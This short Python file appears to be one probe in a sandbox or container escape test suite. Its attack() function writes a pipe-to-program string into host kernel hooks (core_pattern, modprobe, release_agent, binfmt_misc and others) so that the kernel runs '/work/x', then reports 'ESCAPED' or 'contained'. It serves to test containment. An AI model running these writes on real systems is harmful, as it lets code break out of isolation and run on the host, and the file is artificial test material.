"""Have the kernel start a program of ours on the host."""

META = {"group": "files", "seen": "write:/proc/sys/kernel/core_pattern"}


def attack():
    set_ = []
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug", "/proc/sys/kernel/poweroff_cmd",
                 "/sys/kernel/uevent_helper", "/proc/sys/fs/binfmt_misc/register", "/proc/sys/kernel/usermodehelper/bset", "/proc/sysrq-trigger",
                 "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent", "/proc/self/oom_score_adj", "/proc/self/coredump_filter"):
        try:
            with open(path, "w") as file:
                file.write("|/work/x" if "self" not in path else "-1000")
            set_.append(path)
        except OSError:
            continue
    return f"ESCAPED: {set_}" if set_ else "contained"
